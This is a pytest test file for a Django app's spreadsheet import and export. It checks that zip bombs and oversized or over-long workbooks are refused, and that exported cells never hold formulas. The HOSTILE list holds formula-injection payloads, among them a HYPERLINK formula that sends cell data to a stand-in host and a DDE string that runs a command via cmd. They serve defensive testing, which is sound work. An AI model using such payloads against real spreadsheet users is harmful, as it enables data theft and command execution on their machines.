"""Ledgers against hostile files and formula injection, private import files and stuck jobs,
and imports that check everything before they take the write lock (issue 12)."""

import io
import os
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from civicgrid.core.errors import InvalidInput
from civicgrid.people import ledgers
from civicgrid.people.models import Building, ImportJob
from civicgrid.people.tests.test_ledgers import houses, xlsx

pytestmark = pytest.mark.django_db

SHEET = "xl/worksheets/sheet1.xml"


def rewrite(upload: SimpleUploadedFile, change, extra: dict | None = None) -> SimpleUploadedFile:
    """The same .xlsx with the sheet's XML passed through `change` and `extra` parts added."""
    source = zipfile.ZipFile(io.BytesIO(upload.read()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            data = source.read(member)
            target.writestr(member.filename, change(data) if member.filename == SHEET else data)
        for name, data in (extra or {}).items():
            target.writestr(name, data)
    return SimpleUploadedFile("台账.xlsx", out.getvalue())


@pytest.fixture
def no_parsing(monkeypatch):
    def refuse(*args, **kwargs):
        raise AssertionError("the workbook was parsed")

    monkeypatch.setattr(ledgers, "load_workbook", refuse)


def test_a_zip_bomb_is_refused_before_parsing(tree, people, no_parsing):
    # Valid sheet XML with megabytes of blanks inside: a few KB on the wire, inflating ~1000x.
    bomb = rewrite(
        xlsx("houses", houses(2, "")),
        lambda xml: xml.replace(b"</sheetData>", b" " * 8_000_000 + b"</sheetData>"),
    )
    assert bomb.size < 100_000
    with pytest.raises(InvalidInput) as caught:
        ledgers.start_import(people["alice"], tree.grid_a1_1, "houses", bomb)
    assert caught.value.field == "file"
    assert not ImportJob.objects.exists()


def test_the_inflated_size_is_limited(tree, people, settings, no_parsing):
    settings.IMPORT_MAX_INFLATED_MB = 1
    # Incompressible, so no suspicious ratio: only the total is over the limit.
    padded = rewrite(
        xlsx("houses", houses(2, "")), lambda xml: xml, {"xl/pad.bin": os.urandom(1_200_000)}
    )
    with pytest.raises(InvalidInput) as caught:
        ledgers.start_import(people["alice"], tree.grid_a1_1, "houses", padded)
    assert caught.value.field == "file"


def _far_row(dimension: str) -> SimpleUploadedFile:
    """One house, then a cell at row 900 000; the sheet's <dimension> declares that row
    ("declared"), declares only the rows openpyxl wrote ("lying") or is left out ("absent")."""

    def change(xml: bytes) -> bytes:
        far = b'<row r="900000"><c r="B900000" t="inlineStr"><is><t>x</t></is></c></row>'
        xml = xml.replace(b"</sheetData>", far + b"</sheetData>")
        if dimension == "declared":
            xml = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:K900000"', xml)
        elif dimension == "absent":
            xml = re.sub(rb"<dimension [^>]*/>", b"", xml)
        return xml

    return rewrite(xlsx("houses", houses(1, "")), change)


@pytest.mark.parametrize("dimension", ["declared", "lying", "absent"])
def test_rows_count_empty_ones_too_whatever_the_sheet_declares(tree, people, settings, dimension):
    settings.IMPORT_MAX_ROWS = 50
    with pytest.raises(InvalidInput) as caught:
        ledgers.start_import(people["alice"], tree.grid_a1_1, "houses", _far_row(dimension))
    assert caught.value.field == "file"
    assert not Building.objects.exists()


def test_a_plain_file_still_loads_under_the_limits(tree, people, settings):
    settings.IMPORT_MAX_ROWS = 3
    job = ledgers.start_import(
        people["alice"], tree.grid_a1_1, "houses", xlsx("houses", houses(3, ""))
    )
    assert job.state == ImportJob.State.DONE, job.errors


# ---- formula injection --------------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def _no_formulas(data: bytes) -> list:
    from openpyxl import load_workbook

    raw = zipfile.ZipFile(io.BytesIO(data)).read(SHEET)
    assert b"<f>" not in raw and b"<f " not in raw
    cells = [cell for row in load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    return [cell.value for cell in cells if cell.value is not None]


def test_exported_persons_never_hold_formulas(estate):
    from civicgrid.people.models import Person

    Person.objects.filter(pk=estate.mother.pk).update(name=HOSTILE[0])
    Person.objects.filter(pk=estate.son.pk).update(name=HOSTILE[1])
    persons = [(p, []) for p in Person.objects.filter(pk__in=[estate.mother.pk, estate.son.pk])]
    import datetime as dt

    values = _no_formulas(ledgers.export_persons(persons, dt.date(2026, 12, 1)))
    assert HOSTILE[0] in values and HOSTILE[1] in values  # the text itself is kept


def test_exported_organisations_never_hold_formulas(tree, people):
    from civicgrid.people import services
    from civicgrid.people.models import Organisation

    for i, name in enumerate(HOSTILE):
        services.save_organisation(
            people["alice"],
            unit=tree.grid_a1_1,
            name=name,
            kind="shop",
            address=HOSTILE[-1 - i],
            contact_name="=cmd",
        )
    values = _no_formulas(ledgers.export_organisations(Organisation.objects.all()))
    assert set(HOSTILE[:4]) <= set(values)  # (the services strip leading blanks)


def test_every_export_cell_goes_through_one_helper():
    data = ledgers.export(["=头", "姓名"], [["=1+1", "普通\x01文本", 3], HOSTILE], "x")
    values = _no_formulas(data)
    assert values[:5] == ["=头", "姓名", "=1+1", "普通文本", 3]
    # (XML reads a carriage return back as a line feed)
    assert values[5:] == [text.replace("\r", "\n") for text in HOSTILE]
